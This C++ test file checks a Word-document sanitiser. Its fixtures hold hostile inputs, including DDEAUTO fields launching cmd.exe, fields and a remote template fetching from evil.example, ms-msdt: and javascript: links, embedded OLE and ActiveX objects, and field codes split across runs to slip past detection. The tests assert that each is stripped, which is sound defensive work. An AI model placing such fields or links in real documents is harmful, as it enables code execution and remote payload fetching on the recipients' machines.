#include "expect.h"

namespace mugai::test {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

std::string mark(const std::string& type) { return "<w:r><w:fldChar w:fldCharType=\"" + type + "\"/></w:r>"; }
std::string code(const std::string& text) { return "<w:r><w:instrText xml:space=\"preserve\">" + text + "</w:instrText></w:r>"; }
std::string shown(const std::string& text) { return "<w:r><w:t>" + text + "</w:t></w:r>"; }
std::string field(const std::string& codes, const std::string& result = "結果") {
  return "<w:p>" + mark("begin") + codes + mark("separate") + shown(result) + mark("end") + "</w:p>";
}
std::string word(const std::string& body, const Profile& profile = {}) { return treated(OoxmlBytes::word(body), "a.docx", profile); }

TEST(OoxmlWord, KeepsTextTablesRubyTrackedChangesAndHarmlessFields) {
  const std::string body =
      "<w:p><w:pPr><w:textDirection w:val=\"tbRl\"/></w:pPr><w:r><w:ruby><w:rt><w:r><w:t>かんじ</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>漢字</w:t></w:r>"
      "</w:rubyBase></w:ruby></w:r><w:ins w:id=\"1\"><w:r><w:t>足した</w:t></w:r></w:ins><w:del w:id=\"2\"><w:r><w:delText>消した</w:delText></w:r></w:del></w:p>"
      "<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>" +
      field(code(" PAGE ")) + field(code("TO") + code("C \\o &quot;1-3&quot; \\h")) + field(code("EQ \\* jc2 \\o\\ad(\\s\\up 9(かな),仮名)"));
  const RebuiltFile result = rebuild_file(OoxmlBytes::word(body).file(), "a.docx");
  ASSERT_TRUE(result.left());
  EXPECT_TRUE(result.item().removed.empty());
  const std::string document = part_of(result.bytes, "word/document.xml");
  for (const char* kept : {"漢字", "かんじ", "足した", "消した", "<w:ins w:id=\"1\">", "textDirection", "<w:tbl>", " PAGE ", "jc2", ">TO<"})
    EXPECT_THAT(document, HasSubstr(kept));
}

TEST(OoxmlWord, FieldsThatFetchOrRunLoseTheirCodeAndKeepTheirResult) {
  for (const char* instruction :
       {"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;", "DDE excel a b", "INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d",
        "INCLUDETEXT file://evil/a", "IMPORT a", "LINK Excel.Sheet.8 a", "DATABASE \\d a", "RD a", "MACROBUTTON evil here", "GOTOBUTTON a b", "PRINT \\p page",
        "HTMLActiveX a", "&quot;DDE&quot; a", "UNHEARDOF"}) {
    const std::string all = word(field(code(instruction)));
    EXPECT_THAT(all, Not(HasSubstr("instrText"))) << instruction;
    EXPECT_THAT(all, Not(HasSubstr("fldChar"))) << instruction;
    EXPECT_THAT(all, HasSubstr("結果")) << instruction;
  }
}

TEST(OoxmlWord, ButtonsOfMacrosKeepTheirWords) {
  const std::string all = word("<w:p>" + mark("begin") + code(" MACROBUTTON NoMacro [ここに") + code("氏名を入力] ") + mark("end") + "</w:p>");
  EXPECT_THAT(all, HasSubstr("<w:t xml:space=\"preserve\">[ここに氏名を入力]</w:t>"));
  EXPECT_THAT(all, Not(HasSubstr("MACROBUTTON")));
}

TEST(OoxmlWord, AnInstructionInPiecesIsReadAsOne) {
  const std::string quote = mark("begin") + code("QUOTE 68 68 69") + mark("separate") + shown("DDE") + mark("end");
  const std::string cases[] = {
      code("D") + code("DE") + code("AUTO cmd"),
      "<w:r><w:instrText>D</w:instrText></w:r></w:p><w:p>" + code("DEAUTO cmd"),
      code("D") + "<w:r><w:t>DEAUTO cmd</w:t></w:r>",
      quote + code(" cmd"),
      code("DDE") + quote,
      "<w:del w:id=\"1\"><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>" + code("DDEAUTO cmd"),
      "<w:ins w:id=\"1\">" + code("PAGE ") + "</w:ins>" + code("DDEAUTO cmd"),
      "<w:smartTag w:element=\"x\">" + code("DDE") + "</w:smartTag>" + code("AUTO cmd"),
      "<w:sdt><w:sdtContent>" + code("DD") + "</w:sdtContent></w:sdt>" + code("E cmd"),
      "<e:x xmlns:e=\"urn:e\">" + code("PAGE ") + "</e:x>" + code("DDE cmd"),
      "<w:r><mc:AlternateContent><mc:Choice Requires=\"a\"><w:instrText>PAGE </w:instrText></mc:Choice><mc:Fallback><w:instrText>x</w:instrText></mc:Fallback>"
      "</mc:AlternateContent></w:r>" + code("DDE cmd"),
      "<w:r><mc:AlternateContent><mc:Choice Requires=\"zz\"/><mc:Fallback><w:t>DDE cmd </w:t></mc:Fallback></mc:AlternateContent></w:r>" + code("SET x"),
      code("HYPERLINK ") + "<w:fldSimple w:instr=\"QUOTE x\"><w:r><w:t>http://evil.example/</w:t></w:r></w:fldSimple>",
  };
  for (const std::string& one : cases) {
    const std::string all = word(field(one));
    EXPECT_THAT(all, HasSubstr("結果")) << one;
    EXPECT_THAT(all, Not(HasSubstr("instrText"))) << one;
    EXPECT_THAT(all, Not(HasSubstr("DDE"))) << one;
  }
}

TEST(OoxmlWord, FieldsThatNeverEndAreNoneAndTheTextBehindThemStays) {
  const std::string all = word("<w:p>" + mark("begin") + code("DDE cmd") + "</w:p><w:p>" + shown("後の文") + "</w:p>" + field(code("PAGE"), "7"));
  EXPECT_THAT(all, HasSubstr("後の文"));
  EXPECT_THAT(all, Not(HasSubstr("DDE")));
  EXPECT_THAT(all, HasSubstr(">PAGE<"));
}

TEST(OoxmlWord, SimpleFieldsAreUnwrapped) {
  const std::string all = word("<w:p><w:fldSimple w:instr=\" DDEAUTO cmd \">" + shown("残る") + "</w:fldSimple><w:fldSimple w:instr=\" DATE \">" + shown("今日") + "</w:fldSimple></w:p>");
  EXPECT_THAT(all, Not(HasSubstr("DDEAUTO")));
  EXPECT_THAT(all, HasSubstr("残る"));
  EXPECT_THAT(all, HasSubstr("<w:fldSimple w:instr=\" DATE \">"));
}

OoxmlBytes with_link(const std::string& target) {
  return OoxmlBytes::word("<w:p><w:hyperlink r:id=\"rId9\">" + shown("ここ") + "</w:hyperlink></w:p>").relate("word/document.xml", "rId9", "hyperlink", target, true);
}

TEST(OoxmlWord, LinksFollowTheProfile) {
  const OoxmlBytes web = with_link("https://city.example.jp/a?b=1&amp;c=2");
  EXPECT_THAT(treated(web, "a.docx", keeping_links()), HasSubstr("Target=\"https://city.example.jp/a?b=1&amp;c=2\" TargetMode=\"External\""));
  const std::string defanged = treated(web, "a.docx");
  EXPECT_THAT(defanged, Not(HasSubstr("city.example")));
  EXPECT_THAT(defanged, HasSubstr("ここ"));
  EXPECT_EQ(count_of(rebuild_file(web.file(), "a.docx"), "url-defanged"), 1u);
}

TEST(OoxmlWord, LinksToAnythingButWebAndMailGo) {
  for (const char* target : {"file:///c:/windows/calc.exe", "\\\\evil\\share\\a.docx", "//evil/a", "ms-msdt:/id", "javascript:alert(1)", "mhtml:http://evil.example/!x",
                             "http:\\\\evil", "search-ms:query=a", "a.docx", " http://evil.example"}) {
    const std::string all = treated(with_link(target), "a.docx", keeping_links());
    EXPECT_THAT(all, Not(HasSubstr("External"))) << target;
    EXPECT_THAT(all, HasSubstr("ここ")) << target;
    EXPECT_EQ(count_of(rebuild_file(with_link(target).file(), "a.docx", keeping_links()), "unsafe-link"), 1u) << target;
  }
}

TEST(OoxmlWord, HyperlinkFieldsFollowTheProfileToo) {
  const std::string body = field(code("HYPERLINK &quot;http://a.example/&quot;")) + field(code("HYPERLINK \\l &quot;_Toc1&quot;"), "目次");
  EXPECT_THAT(word(body, keeping_links()), HasSubstr("http://a.example/"));
  const std::string all = word(body);
  EXPECT_THAT(all, Not(HasSubstr("a.example")));
  EXPECT_THAT(all, HasSubstr("_Toc1"));
  EXPECT_THAT(word(field(code("HYPERLINK &quot;file://evil/a&quot;")), keeping_links()), Not(HasSubstr("evil")));
}

TEST(OoxmlWord, ObjectsGoAndTheirPictureStays) {
  OoxmlBytes document = OoxmlBytes::word(
      "<w:p><w:r><w:object w:dxaOrig=\"1\"><v:shape id=\"s\" o:ole=\"\"><v:imagedata r:id=\"rId5\"/></v:shape>"
      "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rId6\"/></w:object></w:r><w:r><w:object><w:control r:id=\"rId7\"/></w:object></w:r></w:p>");
  document.add("word/media/a.emf", "\1\0\0\0 EMF").relate("word/document.xml", "rId5", "image", "media/a.emf");
  document.add("word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0 x", "application/vnd.openxmlformats-officedocument.oleObject");
  document.relate("word/document.xml", "rId6", "oleObject", "embeddings/oleObject1.bin");
  document.add("word/activeX/activeX1.xml", "<ax/>", "application/vnd.ms-office.activeX+xml").relate("word/document.xml", "rId7", "control", "activeX/activeX1.xml");
  const std::string all = treated(document, "a.docx");
  for (const char* gone : {"OLEObject", "oleObject", "activeX", "w:control", "w:object", ".emf"}) EXPECT_THAT(all, Not(HasSubstr(gone))) << gone;
  EXPECT_THAT(all, HasSubstr("<w:pict><v:shape id=\"s\"><v:imagedata r:id=\"rId5\"/></v:shape></w:pict>"));
  EXPECT_THAT(all, HasSubstr("=== word/media/image1.png"));
  const RebuiltFile result = rebuild_file(document.file(), "a.docx");
  EXPECT_EQ(count_of(result, "embedded-file"), 1u);
  EXPECT_EQ(count_of(result, "activex"), 1u);
  EXPECT_EQ(count_of(result, "picture-placeholder"), 1u);
}

TEST(OoxmlWord, WhatSettingsFetchOrRunGoes) {
  OoxmlBytes document = OoxmlBytes::word(word_text("<w:t>文</w:t>"));
  document.add("word/settings.xml",
               "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
               "<w:attachedTemplate r:id=\"rId1\"/><w:linkStyles/><w:mailMerge><w:query w:val=\"SELECT\"/></w:mailMerge><w:docVars><w:docVar w:name=\"a\" w:val=\"b\"/></w:docVars>"
               "<w:defaultTabStop w:val=\"840\"/></w:settings>",
               "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml");
  document.relate("word/document.xml", "rId2", "settings", "settings.xml");
  document.relate("word/settings.xml", "rId1", "attachedTemplate", "http://evil.example/t.dotm", true);
  const std::string all = treated(document, "a.docx", keeping_links());
  for (const char* gone : {"attachedTemplate", "evil.example", "mailMerge", "docVar", "linkStyles"}) EXPECT_THAT(all, Not(HasSubstr(gone))) << gone;
  EXPECT_THAT(all, HasSubstr("defaultTabStop"));
  EXPECT_EQ(count_of(rebuild_file(document.file(), "a.docx"), "remote-template"), 1u);
}

TEST(OoxmlWord, OtherFilesAreNotBroughtIn) {
  OoxmlBytes document = OoxmlBytes::word("<w:altChunk r:id=\"rId5\"/><w:subDoc r:id=\"rId6\"/><w:p><w:r><w:pict><v:shape href=\"file://evil/x\" onmouseover=\"x\">"
                                         "<v:imagedata src=\"http://evil.example/a.png\" r:href=\"rId8\" o:href=\"http://evil.example/b\"/><v:fill r:link=\"rId8\"/></v:shape></w:pict></w:r></w:p>"
                                         "<w:p><w:r><w:drawing><a:blip r:link=\"rId8\"/><a:blip r:embed=\"rId7\"/></w:drawing></w:r></w:p>");
  document.add("word/afchunk.html", "<script>x</script>", "text/html").relate("word/document.xml", "rId5", "aFChunk", "afchunk.html");
  document.relate("word/document.xml", "rId6", "subDocument", "http://evil.example/s.docx", true);
  document.relate("word/document.xml", "rId7", "image", "http://evil.example/i.png", true);
  document.relate("word/document.xml", "rId8", "hyperlink", "http://evil.example/p.png", true);
  const std::string all = treated(document, "a.docx", keeping_links());
  for (const char* gone : {"altChunk", "subDoc", "evil", "script", "External", "onmouseover", "imagedata", "r:embed"}) EXPECT_THAT(all, Not(HasSubstr(gone))) << gone;
}

TEST(OoxmlWord, UnknownVocabulariesAndDataBindingsGo) {
  const std::string all = word("<w:p><w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/a\" w:storeItemID=\"{1}\"/></w:sdtPr><w:sdtContent>" + shown("欄の文字") +
                               "</w:sdtContent></w:sdt></w:p><z:evil xmlns:z=\"urn:z\"><w:p/></z:evil><w:p xmlns:xl=\"http://www.w3.org/1999/xlink\" xl:href=\"http://evil.example\"/>");
  for (const char* gone : {"dataBinding", "evil", "urn:z", "xlink"}) EXPECT_THAT(all, Not(HasSubstr(gone))) << gone;
  EXPECT_THAT(all, HasSubstr("欄の文字"));
}

TEST(OoxmlWord, PrefixesAreOnlyNames) {
  OoxmlBytes document = OoxmlBytes::word("<q:p xmlns:q=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><q:r><q:fldChar q:fldCharType=\"begin\"/></q:r><q:r><q:instrText>DDE x"
                                         "</q:instrText></q:r><q:r><q:fldChar q:fldCharType=\"separate\"/></q:r><q:r><q:t>値</q:t></q:r><q:r><q:fldChar q:fldCharType=\"end\"/></q:r></q:p>");
  const std::string all = treated(document, "a.docx");
  EXPECT_THAT(all, Not(HasSubstr("DDE")));
  EXPECT_THAT(all, HasSubstr("<w:t>値</w:t>"));
}

TEST(OoxmlWord, StrictDocumentsAndUtf16AreReadAlike) {
  OoxmlBytes strict = OoxmlBytes::word(field(code("DDE x")) + "<w:altChunk r:id=\"rId5\"/>");
  strict.replace_in("word/document.xml", "http://schemas.openxmlformats.org/wordprocessingml/2006/main", "http://purl.oclc.org/ooxml/wordprocessingml/main");
  EXPECT_THAT(treated(strict, "a.docx"), AllOf(Not(HasSubstr("DDE")), Not(HasSubstr("altChunk")), HasSubstr("結果")));
  OoxmlBytes wide = OoxmlBytes::word("<w:p><w:fldSimple w:instr=\"DDE x\"><w:r><w:t>plain</w:t></w:r></w:fldSimple></w:p>");
  std::string& content = wide.part("word/document.xml");
  content = as_utf16(content);
  EXPECT_THAT(treated(wide, "a.docx"), AllOf(Not(HasSubstr("DDE")), HasSubstr("<w:t>plain</w:t>")));
}

TEST(OoxmlWord, AlternativesStayUnlessNobodyKnowsThem) {
  const std::string all = word("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"a\"><w:t>一</w:t></mc:Choice><mc:Fallback><w:t>二</w:t></mc:Fallback></mc:AlternateContent></w:r>"
                               "<w:r><mc:AlternateContent><mc:Choice Requires=\"z\" xmlns:z=\"urn:z\"><w:t>三</w:t></mc:Choice><mc:Fallback><w:t>四</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>");
  EXPECT_THAT(all, HasSubstr("<mc:Choice Requires=\"a\"><w:t>一</w:t></mc:Choice><mc:Fallback><w:t>二</w:t></mc:Fallback>"));
  EXPECT_THAT(all, Not(HasSubstr("三")));
  EXPECT_THAT(all, HasSubstr("<w:r><w:t>四</w:t></w:r>"));
}

}  // namespace
}  // namespace mugai::test
